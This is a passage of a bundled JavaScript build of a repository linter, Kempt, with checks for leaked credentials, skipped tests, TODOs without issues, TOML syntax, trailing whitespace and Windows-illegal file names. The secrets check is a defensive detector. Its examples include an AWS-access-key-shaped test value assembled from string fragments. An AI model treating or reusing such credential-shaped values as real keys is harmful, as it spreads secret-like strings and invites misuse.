                rule: hasBody ? 'key' : 'header',
                message: hasBody ? `${capital(marker.name)} in the repository` : `Header of a private key (${marker.text})`,
                at: { offset, length },
                snippet: file.buffer.toString('latin1', offset, offset + length),
            });
        });
    },
});
function capital(text) {
    return text.slice(0, 1).toUpperCase() + text.slice(1);
}

;// CONCATENATED MODULE: ./lib/modules/checks/secrets.js

let engine;
const token = ['AKIA', 'Q3X7ZK2M', 'VB5WN6RT'].join('');
const published = ['AKIA', 'IOSFODNN7', 'EXAMPLE'].join('');
const secrets = fileCheck({
    scope: 'file',
    id: 'secrets',
    summary: 'Finds API keys, tokens and other credentials of well-known services',
    level: 'error',
    prepare: async () => {
        engine = await Promise.all(/* import() */[__webpack_require__.e(395), __webpack_require__.e(828)]).then(__webpack_require__.bind(__webpack_require__, 3828));
    },
    keywords: () => engine.secretKeywords(),
    options: {
        allow: {
            type: 'expressions',
            default: [],
            summary: 'Regular expressions of values that are no secrets; one that matches anywhere in the value lets it pass',
        },
    },
    docs: `Whoever can read the repository, now or from its history later, can use the credential. Take it out, and revoke
it with its provider: it has to be considered lost.

Each rule \`secrets/<family>\` knows the form that a provider gives its tokens: prefix, alphabet, length, and checksum
where there is one. Values without a form of their own (\`aws_secret_access_key = …\`) are judged by the name they are
assigned to. Published examples, placeholders and values that are too regular to be generated are left alone, and so are
passwords and keys without a known form. Keys of a provider's sandbox are notes. Private keys are the matter of the check
\`private-key\`. No output of Kempt shows more than the first four characters of a secret.`,
    examples: [
        {
            title: 'A key in a settings file',
            files: { '.env': `AWS_KEY=${token}\n` },
            findings: ['.env:1 aws-access-key-id'],
        },
        { title: "The example of the provider's documentation", files: { 'a.md': `\`${published}\`\n` }, findings: [] },
        {
            title: 'A value that the configuration allows',
            files: { '.env': `AWS_KEY=${token}\n` },
            options: { allow: ['^AKIAQ3'] },
            findings: [],
        },
    ],
    run: (file, report, { allow }) => engine.reportSecrets(file, report, allow),
});

;// CONCATENATED MODULE: ./lib/modules/checks/shebang-not-executable.js



const shebangNotExecutable = fileCheck({
    id: 'shebang-not-executable',
    scope: 'file',
    summary: 'Scripts that are not executable',
    level: 'note',
    facts: facts/* Fact */.d.shebang,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.markdown | file_type/* FileType */.pt.test,
    docs: `The file names its interpreter in a \`#!\` line, but its mode does not let it be run
(\`git update-index --chmod=+x FILE\`). Only a line that names its interpreter by a path counts: \`#![\` begins an attribute
in Rust. Left alone are templates, PowerShell, folders of tests, and what is read by another program whatever its mode:
modules of Ansible (in \`library/\`, or Python in \`modules/\`), modules of Perl, and files of zsh, which are mostly
sourced.`,
    examples: [
        { title: 'Not executable', files: { 'run.sh': '#!/bin/sh\necho hello\n' }, findings: ['run.sh:1'] },
        {
            title: 'A module of Ansible, and a line for another program',
            files: { 'plugins/modules/a.py': '#!/usr/bin/python\n', 'a.js': '#!"use strict"\n' },
            findings: [],
        },
        { title: 'An attribute of Rust', files: { 'a.rs': '#![allow(dead_code)]\n' }, findings: [] },
    ],
    run(file, report) {
        if (file.facts & facts/* Fact */.d.executable || readByOthers.test(file.path) || !/^#!\s*\/\w/.test(file.line(0)))
            return;
        report({ message: 'The script has a #! line but is not executable', at: { offset: 0, length: file.lineEnd(0) } });
    },
});
const readByOthers = /\.(?:j2|tmpl|template|tt|erb|in|txt|ps1|psm1|pm|zsh|zsh-theme)$|(?:^|\/)(?:library\/|modules\/(?:.*\/)?[^/]*\.py$)/i;

;// CONCATENATED MODULE: ./lib/modules/checks/skipped-test.js



const argument = /^\s*\(\s*[^)\s]/;
const skipped_test_patterns = {
    javascript: [
        {
            mark: /(?<![\w$.])(?<![?:]\s*)(?:(?:describe|context|suite|it|test|specify)(?:\.\w+)*\.skip(?=\s*(?:\(\s*(?:["'`)]|$)|\.each\b|`))|x(?:describe|context|it|test|specify)(?:\.each)?(?=\s*(?:\(\s*["'`]|`)))/,
        },
    ],
    python: [
        { mark: /@(?:pytest\.)?mark\.skip\b/, reason: /^\s*\([^)]*["']/ },
        { mark: /@(?:unittest\.)?skip\b(?!\.)/, reason: argument },
        { mark: /(?<![\w.])pytest\.skip(?=\()/, reason: argument },
        { mark: /(?<![\w.])self\.skipTest(?=\()/, reason: argument },
    ],
    java: [{ mark: /@(?:Disabled|Ignore)\b/, reason: /^\s*\([^)]*"/ }],
    kotlin: [{ mark: /@(?:Disabled|Ignore)\b/, reason: /^\s*\([^)]*"/ }],
    go: [{ mark: /(?<![\w.])[tb]\.(?:Skip(?=\()|SkipNow\(\))/, reason: argument }],
    rust: [{ mark: /#\[ignore\]/ }],
    ruby: [
        { mark: /(?<![\w.:])x(?:it|describe|context|specify|example)(?=[ (]+["'])/ },
        { mark: /^\s*(?:skip|pending)(?=\s*(?:\(\s*\)\s*)?(?:$|;))/ },
    ],
    php: [{ mark: /(?:\$this->|self::|static::)markTest(?:Skipped|Incomplete)(?=\()/, reason: argument }],
};
const skipped_test_quick = /skip|ignore|disabled|pending|incomplete|\bx(?:describe|context|it|test|specify|example)\b/i;
const skippedTest = changeCheck({
    scope: 'change',
    id: 'skipped-test',
    summary: 'A test that is switched off without a word why',
    level: 'warning',
    docs: `A skipped test protects nothing, and without a reason nobody knows when to switch it on again.

Only lines that the change adds to tests are looked at, and a reason is enough to be left alone: the argument that the
framework has for it (\`reason=\` of pytest, the string of \`@Disabled\`, \`t.Skip("…")\`, \`#[ignore = "…"]\`), or a comment
on the same line or on the line above. Skips under a condition (\`skipif\`, \`it.skipIf\`, \`x ? it : it.skip\`,
Playwright's \`test.skip(condition)\`, \`skip unless …\` in Ruby) are left alone too.

Say why, best with the issue that will end it, or delete the test.`,
    source: 'https://docs.pytest.org/en/stable/how-to/skipping.html',
    examples: [
        {
            title: 'without a reason',
            files: {
                'src/sum.test.ts': "it.skip('adds', () => {});\nxdescribe('sum', () => {});\n",
                'tests/test_sum.py': '@pytest.mark.skip\ndef test_a(): pass\n\n@unittest.skip\ndef test_b(): pass\n',
                'src/test/java/SumTest.java': 'class SumTest {\n  @Disabled\n  @Test\n  void adds() {}\n}\n',
                'pkg/sum_test.go': 'func TestSum(t *testing.T) {\n\tt.Skip()\n}\n',
                'src/sum.rs': '#[test]\n#[ignore]\nfn adds() {}\n',
                'spec/sum_spec.rb': "xit 'adds' do\nend\n",
            },
            findings: [
                'pkg/sum_test.go:2',
                'spec/sum_spec.rb:1',
                'src/sum.rs:2',
                'src/sum.test.ts:1',
                'src/sum.test.ts:2',
                'src/test/java/SumTest.java:2',
                'tests/test_sum.py:1',
                'tests/test_sum.py:4',
            ],
        },
        {
            title: 'with a reason, a comment or a condition',
            files: {
                'src/sum.test.ts': "// Needs a network, see #12\nit.skip('adds', () => {});\nit.skip('x', () => {}); // flaky, #13\ntest.skip(isWindows, 'no sockets');\n(x ? it : it.skip)('adds', () => {});\nx ? it('a', f) : it.skip('a', f);\n",
                'test/sum_test.rb': 'def test_sum\n  skip unless x\nend\n',
                'tests/test_sum.py': "@pytest.mark.skip(\n    reason='no network'\n)\ndef test_a(): pass\n\n@pytest.mark.skipif(windows)\ndef test_b(): pass\n",
                'src/test/java/SumTest.java': 'class SumTest {\n  @Disabled("no network")\n  @Test\n  void adds() {}\n}\n',
                'pkg/sum_test.go': 'func TestSum(t *testing.T) {\n\tt.Skip("no network")\n}\n',
                'src/sum.rs': '#[test]\n#[ignore = "no network"]\nfn adds() {}\n',
                'src/stream.ts': "stream.skip('x');\n",
            },
            findings: [],
        },
    ],
    run(change, report) {
        const wanted = (path, language) => language in skipped_test_patterns && (isTest(path) || language === 'rust') && !isFixture(path);
        for (const added of addedLines(change, wanted, skipped_test_quick)) {
            const mark = silentSkip(added);
            if (mark === undefined || hasComment(added))
                continue;
            const message = `\`${mark[0].trim()}\` switches the test off and says no reason`;
            report(added.path, { line: added.line, column: mark.index + 1, message });
        }
    },
});
function silentSkip({ language, line, lexed }) {
    const code = lexed.code(line);
    for (const { mark, reason } of skipped_test_patterns[language]) {
        const match = mark.exec(code);
        if (match === null)
            continue;
        const rest = codeOfCall(lexed, line, match.index + match[0].length);
        if (reason === undefined || !reason.test(rest))
            return match;
    }
    return undefined;
}
function hasComment({ line, lexed }) {
    const above = lexed.code(line - 1).trim() === '' ? lexed.comment(line - 1) : '';
    return /\w{2}/.test(lexed.comment(line)) || /\w{2}/.test(above);
}

;// CONCATENATED MODULE: ./lib/modules/checks/submodule-drift.js


const submoduleDrift = treeCheck({
    id: 'submodule-drift',
    scope: 'tree',
    summary: 'Submodules that are not what the repository says',
    level: 'warning',
    source: 'https://git-scm.com/docs/gitmodules',
    docs: `A submodule that \`.gitmodules\` does not name cannot be cloned; a name without a submodule is left over; and a
submodule whose checkout is at another commit than the one recorded makes what runs here differ from what others get
(\`git submodule update\`). Submodules that are not initialised are left alone.`,
    examples: [
        { title: 'Not named', files: { lib: { content: 'a'.repeat(40), mode: 0o160000 } }, findings: ['lib'] },
        {
            title: 'Named, and not initialised',
            files: {
                '.gitmodules': '[submodule "lib"]\n\tpath = lib\n\turl = https://example.com/lib.git\n',
                lib: { content: 'a'.repeat(40), mode: 0o160000 },
            },
            findings: [],
        },
        {
            title: 'Named, and nothing there',
            files: { '.gitmodules': '[submodule "lib"]\n\tpath = lib\n\turl = https://example.com/lib.git\n' },
            findings: ['.gitmodules'],
        },
    ],
    run(tree, report) {
        const modules = tree.candidates.filter((entry) => entry.mode === domain_entry/* Mode */.K.submodule);
        const text = tree.read('.gitmodules');
        if (modules.length === 0 && text === undefined)
            return;
        const named = [...(text ?? '').matchAll(/^\s*path\s*=\s*(.+?)\s*$/gm)].map((match) => match[1]);
        for (const entry of modules) {
            const head = tree.submoduleHead(entry);
            if (!named.includes(entry.path))
                report(entry.path, { message: 'The submodule is not named in .gitmodules' });
            else if (head !== undefined && entry.oid !== undefined && head !== entry.oid) {
                report(entry.path, {
                    message: `The submodule is at ${head.slice(0, 10)}, not at the recorded ${entry.oid.slice(0, 10)}`,
                });
            }
        }
        const present = new Set(tree.entries.filter((entry) => entry.mode === domain_entry/* Mode */.K.submodule).map((entry) => entry.path));
        const judged = tree.candidates.some((entry) => entry.path === '.gitmodules');
        for (const path of judged ? named.filter((one) => !present.has(one)) : []) {
            report('.gitmodules', { message: `There is no submodule at ${path}` });
        }
    },
});

// EXTERNAL MODULE: ./lib/domain/suppression.js
var suppression = __webpack_require__(8266);
;// CONCATENATED MODULE: ./lib/modules/checks/suppressions.js



const suppressions = fileCheck({
    id: 'suppressions',
    scope: 'file',
    summary: 'Comments that suppress nothing, or do not say what and why',
    level: 'warning',
    keywords: () => [{ text: 'kempt-ignore' }],
    docs: `A comment can set a finding apart, in any language that has comments:

    value = "x"  # kempt-ignore RULE: why it is meant to be so

It speaks of its own line, or, alone on its line, of the next one; \`kempt-ignore-file RULE: reason\` speaks of the whole
file. It must name the rule (or several, with commas; a check's id stands for all its rules) and the reason. One that
suppresses nothing is reported as \`suppressions/unused\`, unless a check it names did not run.`,
    examples: [
        {
            title: 'Names no rule, gives no reason',
            files: { 'a.py': `x = 1  # kempt${'-'}ignore\ny = 2  # kempt${'-'}ignore no-such-check\n` },
            findings: ['a.py:1 malformed', 'a.py:2 malformed'],
        },
        {
            title: 'Suppresses nothing',
            files: { 'a.py': `x = 1  # kempt${'-'}ignore suppressions: none\n` },
            findings: ['a.py:1 unused'],
        },
        { title: 'In prose', files: { 'a.md': 'Write `# kempt-ignore`.\n' }, findings: [] },
    ],
    run(file, report) {
        const text = file.text();
        for (const comment of (0,suppression/* parseSuppressions */.Q)(text, (file.types & file_type/* FileType */.pt.markdown) !== 0)) {
            const missing = comment.rules.length === 0 ? 'which rule it suppresses' : comment.reason === '' ? 'why' : undefined;
            if (missing === undefined)
                continue;
            const offset = Buffer.byteLength(text.slice(0, comment.at.offset));
            report({
                rule: 'malformed',
                message: `The comment does not say ${missing}: kempt${'-'}ignore RULE: reason`,
                at: { offset, length: comment.at.length },
            });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/change/test-files.js

const testFolders = ['test/', 'tests/', 'spec/', '__tests__/', 'tests/unit/', 'test/unit/'];
const conventions = {
    javascript: {
        source: /\.(?:[cm]?[jt]sx?|vue|svelte)$/,
        roots: /^(?:src|lib|app)\//,
        tests: (name, extension) => ['test', 'spec'].flatMap((word) => [extension, 'ts', 'tsx', 'js'].map((ext) => `${name}.${word}.${ext}`)),
        setup: ['jest', 'vitest', 'karma.conf', 'playwright', 'cypress'].flatMap((tool) => ['js', 'ts', 'mjs', 'cjs', 'mts'].map((ext) => `${tool}${tool.includes('.') ? '' : '.config'}.${ext}`)),
    },
    python: {
        source: /\.py$/,
        roots: /^(?:src\/[^/]+|src|lib\/[^/]+|lib)\//,
        tests: (name) => [`test_${name}.py`, `${name}_test.py`],
        setup: ['conftest.py', 'pytest.ini', 'tests/__init__.py', 'tests/conftest.py', 'test/__init__.py'],
    },
    ruby: {
        source: /\.rb$/,
        roots: /^(?:lib|app)\//,
        tests: (name) => [`${name}_test.rb`, `${name}_spec.rb`],
        setup: ['.rspec', 'spec/spec_helper.rb', 'test/test_helper.rb'],
    },
    php: {
        source: /\.php$/,
        roots: /^(?:src|app|lib)\//,
        tests: (name) => [`${name}Test.php`, `Unit/${name}Test.php`, `Feature/${name}Test.php`],
        setup: ['phpunit.xml', 'phpunit.xml.dist', 'phpunit.dist.xml'],
    },
    go: { source: /\.go$/, roots: /^$/, tests: (name) => [`${name}_test.go`, 'main_test.go'], setup: [] },
    java: test_files_jvm('java'),
    kotlin: test_files_jvm('kt'),
};
function test_files_jvm(extension) {
    return {
        source: new RegExp(`(?:^|/)src/main/.*\\.${extension}$`),
        roots: /^src\/main\//,
        tests: (name) => ['Test', 'Tests', 'IT', 'IntegrationTests'].map((end) => `${name}${end}.${extension}`),
        setup: [],
    };
}
function isTestable(path, language) {
    return conventions[language]?.source.test(path) ?? false;
}
function testOf(change, path, language) {
    const convention = conventions[language];
    if (convention === undefined)
        return undefined;
    const folder = path.slice(0, path.lastIndexOf('/') + 1);
    const file = path.slice(folder.length);
    const dot = file.lastIndexOf('.');
    const names = convention.tests(file.slice(0, dot), file.slice(dot + 1));
    return testPlaces(folder, convention)
        .flatMap((place) => names.map((name) => place + name))
        .find((candidate) => change.has(candidate));
}
function testPlaces(folder, { roots }) {
    const places = ['', '__tests__/', 'test/', 'tests/'].map((name) => folder + name);
    for (const project of foldersUp(folder)) {
        const inner = folder.slice(project.length);
        if (inner.startsWith('src/main/'))
            places.push(`${project}${inner.replace('src/main/', 'src/test/')}`);
        const mirrored = inner.replace(roots, '');
        for (const tests of testFolders)
            places.push(`${project}${tests}${inner}`, `${project}${tests}${mirrored}`);
    }
    return [...new Set(places)];
}
function hasTestSetup(change, path, language) {
    const setup = conventions[language]?.setup ?? [];
    return foldersUp(path).some((folder) => setup.some((name) => change.has(folder + name)));
}

;// CONCATENATED MODULE: ./lib/modules/checks/tests-untouched.js





const testsUntouched = changeCheck({
    scope: 'change',
    id: 'tests-untouched',
    summary: 'A change of code that touches no test',
    level: 'note',
    docs: `New behaviour without a test is behaviour that the next change may break unnoticed.

Said once per language, at the file that grew most, when the code grows by at least \`min-lines\` lines (added lines of
code less removed lines, so that a refactoring is left alone) and no test of that language is touched. Comments, empty
lines, generated and vendored files, examples, configuration and scripts do not count. Where nothing shows that the project has tests (a test named after one of the changed files, or the set-up
of a test runner), nothing is said. Looked at are JavaScript, TypeScript, Python, Ruby, PHP, Go, Java and Kotlin; Rust
is not, because its tests live in the files they test.

Add a test, or extend the one that is named.`,
    options: {
        'min-lines': { type: 'integer', default: 10, summary: 'Lines by which the code must grow' },
    },
    examples: [
        {
            title: 'the source has a test, which is not touched',
            base: { 'src/sum.ts': '', 'src/sum.test.ts': "it('adds', () => {});\n" },
            files: {
                'src/sum.ts': 'a();\nb();\nc();\n',
                'src/sum.test.ts': "it('adds', () => {});\n",
            },
            options: { 'min-lines': 3 },
            findings: ['src/sum.ts'],
        },
        {
            title: 'a new source in a project with tests',
            base: { 'pytest.ini': '[pytest]\n' },
            files: { 'pytest.ini': '[pytest]\n', 'app/sum.py': 'a()\nb()\nc()\n' },
            options: { 'min-lines': 3 },
            findings: ['app/sum.py'],
        },
        {
            title: 'a test is touched, or the change is small, a comment, or in a project without tests',
            base: { 'src/small.ts': '', 'src/small.test.ts': '', 'lib/a_test.go': '', 'lib/a.go': '' },
            files: {
                'src/small.ts': '// one\n// two\n// three\na();\n',
                'src/small.test.ts': '',
                'lib/a.go': 'a()\nb()\nc()\n',
                'lib/a_test.go': 'a()\n',
                'script.py': 'a()\nb()\nc()\n',
            },
            options: { 'min-lines': 3 },
            findings: [],
        },
    ],
    run(change, report, options) {
        for (const [language, files] of sourcesByLanguage(change)) {
            const sources = files.map((file) => ({ file, lines: growth(change, file) })).sort((a, b) => b.lines - a.lines);
            const lines = sources.reduce((sum, source) => sum + source.lines, 0);
            if (lines < options['min-lines'])
                continue;
            const known = sources.map(({ file }) => testOf(change, file.path, language)).find((test) => test !== undefined);
            const first = sources[0].file.path;
            if (known === undefined && !hasTestSetup(change, first, language))
                continue;
            report(first, { message: message(sources, lines, known) });
        }
    },
});
function message(sources, lines, test) {
    const growing = sources.filter((source) => source.lines > 0).length;
    const where = growing === 1 ? 'this file' : `${growing} files`;
    return `the code grows by ${lines} lines in ${where}, and no test is touched${test === undefined ? '' : `; there is ${test}`}`;
}
function sourcesByLanguage(change) {
    const sources = new Map();
    const tested = new Set();
    for (const file of change.files) {
        const { path, status } = file;
        const language = syntaxOf(path)?.language;
        if (isTest(path) || isFixture(path)) {
            if (status !== 'deleted')
                for (const name of languagesOf(path, language))
                    tested.add(name);
        }
        else if (language !== undefined && isSource(path, language)) {
            sources.set(language, [...(sources.get(language) ?? []), file]);
        }
    }
    for (const language of tested)
        sources.delete(language);
    return tested.has('any') ? new Map() : sources;
}
function languagesOf(path, language) {
    return language === undefined || !isTestable(path.replace('/test/', '/main/'), language) ? ['any'] : [language];
}
function isSource(path, language) {
    return isTestable(path, language) && !isGenerated(path) && !isVendored(path) && !isExample(path) && !isSetup(path);
}
function isSetup(path) {
    return /\.config\.\w+$|rc\.[cm]?js$|(?:^|\/)(?:rector\.php|setupTests\.\w+)$|\.d\.ts$|\.stories\.\w+$|(?:^|\/)(?:scripts?|tools?|migrations?|setup\.py|noxfile\.py)(?:\/|$)/.test(path);
}
function growth(change, file) {
    let lines = file.hunks.reduce((sum, hunk) => sum - hunk.baseCount, 0);
    const text = file.hunks.length === 0 || file.status === 'deleted' ? undefined : change.text(file);
    const syntax = syntaxOf(file.path);
    if (text === undefined || syntax === undefined)
        return lines;
    const lexed = lexedFile(file, text, syntax);
    for (const { headStart, headCount } of file.hunks) {
        for (let line = headStart; line < headStart + headCount; line++)
            if (/\w/.test(lexed.code(line)))
                lines++;
    }
    return lines;
}

;// CONCATENATED MODULE: ./lib/modules/checks/todo-without-issue.js



const issue = /#\d+|\bGH-\d+|\b(?!UTF-|SHA-|ISO-|RFC-|AES-|RSA-|MD-|CVE-|CP-|PEP-|UCS-|BASE-|X-)[A-Z][A-Z0-9]+-\d+\b|https?:\/\/|\bb\/\d{4,}|\b(?:issue|bug|ticket)\s*[:#]?\s*\d+/;
const named = /^\s*[([]\s*@?[\w.-]+(?:\s*[,/]\s*@?[\w.-]+)*\s*[)\]]/;
const todoWithoutIssue = changeCheck({
    scope: 'change',
    id: 'todo-without-issue',
    summary: 'A TODO that nobody will find again: it names no issue',
    level: 'note',
    docs: `A TODO in a comment is a promise. Without an issue behind it nobody is reminded of it, and it stays for years.

Only comments on added lines are looked at, and only marks that open a comment or are followed by a colon, so that
prose about a "TODO list" is left alone. \`#123\`, \`ABC-123\`, a URL, or \`issue 123\`, on the same line or further down in
the same comment, is a reference. A name in parentheses, \`TODO(anna)\`, counts too unless \`allow-names\` is off.

Open an issue and name it, or do it now.`,
    source: 'https://google.github.io/styleguide/cppguide.html#TODO_Comments',
    options: {
        markers: { type: 'strings', default: ['TODO', 'FIXME', 'XXX', 'HACK'], summary: 'The words that mark a promise' },
        'allow-names': { type: 'boolean', default: true, summary: 'A name in parentheses will do: `TODO(anna)`' },
    },
    examples: [
        {
            title: 'without a reference',
            files: {
                'src/a.ts': '// TODO: handle errors\n/* FIXME handle errors */\nlet a = 1; // XXX\n',
                'a.py': '# HACK: as above\n',
            },
            findings: ['a.py:1', 'src/a.ts:1', 'src/a.ts:2', 'src/a.ts:3'],
        },
        {
            title: 'with a reference, with a name, in code, and in prose',
            files: {
                'src/a.ts': "// TODO(#12): errors\n// FIXME handle\n// errors, see https://example.com/12\n\n// TODO(anna): errors\n// Sorts the TODO list.\nconst TODO = 'TODO: x';\n/**\n * @todo errors\n */\n",
                'a.py': '# TODO: ABC-12\n',
            },
            findings: [],
        },
        {
            title: 'a name is no issue when names are not allowed',
            options: { 'allow-names': false },
            files: { 'src/a.ts': '// TODO(anna): errors\n// TODO(#12): errors\n' },
            findings: ['src/a.ts:1'],
        },
    ],
    run(change, report, options) {
        if (options.markers.length === 0)
            return;
        const words = options.markers.map((word) => word.replace(/[^\w]/g, '\\$&')).join('|');
        const quick = new RegExp(`(?<![\\w-])(?:${words})(?![\\w-])`);
        const mark = new RegExp(`(?<=^[\\s/*#!;<%@({-]*)(?:${words})(?![\\w-])|(?<![\\w-])(?:${words})(?=:|\\()`);
        for (const added of addedLines(change, (path) => !isFixture(path), quick)) {
            const comment = added.lexed.comment(added.line);
            const match = mark.exec(comment);
            if (match === null)
                continue;
            const rest = comment.slice(match.index + match[0].length);
            if (issue.test(comment) || (options['allow-names'] && named.test(rest)))
                continue;
            if (issue.test(followingComment(added, quick)))
                continue;
            report(added.path, { line: added.line, column: match.index + 1, message: `\`${match[0]}\` names no issue` });
        }
    },
});
function followingComment({ line, lexed }, mark) {
    let rest = '';
    for (let next = line + 1; next <= line + 8; next++) {
        const comment = lexed.comment(next);
        if (comment.trim() === '' || lexed.code(next).trim() !== '' || mark.test(comment))
            break;
        rest += `${comment}\n`;
    }
    return rest;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/toml.js

async function findTomlError(buffer, length) {
    const invalid = findUtf8Error(buffer, length);
    if (invalid)
        return invalid;
    const text = buffer.toString('utf8', 0, length);
    const { judgeToml } = await Promise.all(/* import() */[__webpack_require__.e(292), __webpack_require__.e(952)]).then(__webpack_require__.bind(__webpack_require__, 8952));
    return judgeToml(text);
}

;// CONCATENATED MODULE: ./lib/modules/checks/toml-syntax.js




const tomlSyntax = fileCheck({
    id: 'toml-syntax',
    scope: 'file',
    summary: 'TOML that cannot be parsed',
    level: 'error',
    source: 'https://toml.io/en/v1.0.0',
    types: file_type/* FileType */.pt.toml,
    except: file_type/* FileType */.pt.vendored | file_type/* FileType */.pt.fixture,
    docs: `
Files are held to TOML, which forbids keys and tables that are defined twice, and must be UTF-8.

Left alone: a byte-order mark (another check's matter), integers of any size, and files in folders of test data or of
other people's code.
`,
    examples: [
        { title: 'Tables', files: { 'Cargo.toml': '[package]\nname = "kempt"\nversion = "0.1.0"\n' }, findings: [] },
        { title: 'A key twice', files: { 'a.toml': '[a]\nb = 1\nb = 2\n' }, findings: ['a.toml:3'] },
        { title: 'A value that is none', files: { 'a.toml': 'a = 1\nb = yes\n' }, findings: ['a.toml:2'] },
        {
            title: 'Bytes that are not UTF-8',
            files: { 'a.toml': { content: Buffer.from('a = "\xe9"\n', 'latin1') } },
            findings: ['a.toml:1'],
        },
    ],
    async run(file, report) {
        (0,syntax_problem/* reportProblem */.kM)(await findTomlError(file.buffer, file.length), report);
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/text/literal.js


const literal_counts = new Set('javascript python ruby go rust kotlin scala groovy csharp swift dart shell elixir terraform'.split(' '));
let last;
function endsInLiteral(file, index) {
    const syntax = syntaxOf(file.path);
    if (syntax === undefined || !literal_counts.has(syntax.language))
        return false;
    const lexed = lexedOf(file.text(), syntax);
    return lexed.endsInString(index + 1) && !(syntax.language === 'python' && isDocstring(lexed, index + 1));
}
function lexedOf(text, syntax) {
    if (last?.text !== text)
        last = { text, lexed: lexText(text, syntax) };
    return last.lexed;
}
function isDocstring(lexed, line) {
    let first = line;
    while (first > 1 && lexed.endsInString(first - 1))
        first--;
    return /^\s*[rbuf]{0,2}(?:"""|''')\s*$/i.test(lexed.code(first));
}

;// CONCATENATED MODULE: ./lib/modules/checks/trailing-whitespace.js





const trailingWhitespace = fileCheck({
    id: 'trailing-whitespace',
    scope: 'file',
    summary: 'Blanks at the end of a line',
    level: 'warning',
    facts: facts/* Fact */.d.trailingBlank,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.patch,
    reads: declarations,
    docs: `Blanks at the end of a line are invisible, and show up as noise in diffs when an editor removes them.

Two or more spaces at the end of a Markdown line that has text and is not the last of its paragraph are a hard line
break and are left alone; with \`markdown-hard-breaks: false\` they are not. Patches are left alone: their context lines
may end with blanks. So are tables of tabs (\`.tsv\`), lines within a literal of several lines, whose value the blanks are
part of, files whose head says that they are generated or that \`.prettierignore\` names, and files that \`.editorconfig\` gives
\`trim_trailing_whitespace = false\`. In \`.properties\` files a blank at the end is part of the value: there is no fix.`,
    options: {
        'markdown-hard-breaks': { type: 'boolean', default: true, summary: 'leave the hard line breaks of Markdown alone' },
    },
    examples: [
        {
            title: 'Blanks after code',
            files: { 'a.py': 'x = 1  \ny = 2\n\t\nz = 3\t\n' },
            findings: ['a.py:1', 'a.py:3', 'a.py:4'],
            fixed: { 'a.py': 'x = 1\ny = 2\n\nz = 3\n' },
        },
        {
            title: 'A hard line break in Markdown',
            files: { 'a.md': 'first  \nsecond \n   \n' },
            findings: ['a.md:2', 'a.md:3'],
            fixed: { 'a.md': 'first  \nsecond\n\n' },
        },
        { title: 'A patch', files: { 'a.patch': ' context \n' }, findings: [] },
        {
            title: 'Within a literal, and behind one',
            files: {
                'a.go': 'var a = `one \ntwo` \n',
                'a.py': 'a = """one \n"""\ndef f():\n    """Text \n    """\n',
            },
            findings: ['a.go:2', 'a.py:4'],
            fixed: {
                'a.go': 'var a = `one \ntwo`\n',
                'a.py': 'a = """one \n"""\ndef f():\n    """Text\n    """\n',
            },
        },
        { title: 'Generated', files: { 'a.js': '// This file was generated from a.y. Do not edit. \n' }, findings: [] },
        {
            title: 'Declared to be meant',
            files: {
                '.editorconfig': '[*.out]\ntrim_trailing_whitespace = false\n',
                'a.out': 'one \n',
                'a.in': 'one \n',
            },
            findings: ['a.in:1'],
            fixed: { 'a.in': 'one\n' },
        },
        {
            title: 'Kept from the formatter, as a folder; a kind of files does not count',
            files: {
                '.prettierignore': '# Inputs\n/tests/format/**/*.*\n!/tests/**/format.test.js\n*.md\n',
                'tests/format/a/a.js': 'f(); \n',
                'tests/format/a/format.test.js': 'f(); \n',
                'a.md': 'one \n',
            },
            findings: ['a.md:1', 'tests/format/a/format.test.js:1'],
            fixed: { 'a.md': 'one\n', 'tests/format/a/format.test.js': 'f();\n' },
        },
        { title: 'Part of a value', files: { 'a.properties': 'key = value \n' }, findings: ['a.properties:1'] },
        {
            title: 'Windows line ends stay',
            files: { 'a.txt': 'one \r\ntwo\r\n' },
            findings: ['a.txt:1'],
            fixed: { 'a.txt': 'one\r\ntwo\r\n' },
        },
    ],
    run(file, report, options) {
        const breaks = options['markdown-hard-breaks'] && (file.types & file_type/* FileType */.pt.markdown) !== 0;
        const starts = file.lineStarts();
        for (let line = 0; line < starts.length; line++)
            reportLine(file, report, starts[line], file.lineEnd(line), breaks);
    },
    spares(file, { at }, read) {
        return (file.path.endsWith('.tsv') ||
            isUnkempt(file, read) ||
            declares(file, read, 'trim_trailing_whitespace', 'false') ||
            (at !== undefined && endsInLiteral(file, file.lineIndex(at.offset))));
    },
});
function reportLine(file, report, start, end, breaks) {
    let text = end;
    while (text > start && (file.buffer[text - 1] === 32 || file.buffer[text - 1] === 9))
        text--;
    if (text === end)
        return;
    if (breaks && text > start && end - text >= 2 && file.buffer[text] === 32)
        return;
    const at = { offset: text, length: end - text };
    report({
        message: text === start ? 'Blank line with blanks' : 'Blanks at the end of the line',
        at,
        fix: file.path.endsWith('.properties')
            ? undefined
            : { description: 'Remove the blanks', edits: [{ ...at, text: '' }] },
    });
}

;// CONCATENATED MODULE: ./lib/modules/checks/windows-name.js

const windowsName = treeCheck({
    id: 'windows-name',
    scope: 'tree',
    summary: 'Names that Windows cannot have',
    level: 'warning',
    source: 'https://learn.microsoft.com/en-us/windows/win32/fileio/naming-a-file',
    docs: `A repository with such a name cannot be checked out on Windows: the characters \`< > : " | ? *\` and backslash,
control characters, a blank or a dot at the end, and the names of devices (\`CON\`, \`PRN\`, \`AUX\`, \`NUL\`, \`COM1\`,
\`LPT1\` and so on), with or without an extension.`,
    examples: [
        { title: 'A device', files: { 'src/aux.c': 'int x;\n' }, findings: ['src/aux.c'] },
        { title: 'A character', files: { 'a:b.txt': 'x\n', 'end.': 'x\n' }, findings: ['a:b.txt', 'end.'] },
        { title: 'A folder', files: { 'con/x': 'y\n' }, findings: ['con/x'] },
        { title: 'No device', files: { 'auxiliary.c': 'int x;\n', 'console.log/.x': 'y\n' }, findings: [] },
    ],
    run(tree, report) {
        for (const { path } of tree.candidates) {
            if (!illegal.test(path))
                continue;
            const part = path.split('/').find((one) => illegal.test(one)) ?? path;
            report(path, { message: `Windows cannot have the name ${JSON.stringify(part)}` });
        }
    },
});
const illegal = /[<>:"|?*\\\u0000-\u001f]|[. ](?:\/|$)|(?:^|\/)(?:con|prn|aux|nul|com[1-9\u00b9\u00b2\u00b3]|lpt[1-9\u00b9\u00b2\u00b3])(?:\.[^/]*)?(?:\/|$)/i;

;// CONCATENATED MODULE: ./lib/modules/checks/workflow/parse.js
let parse_last;
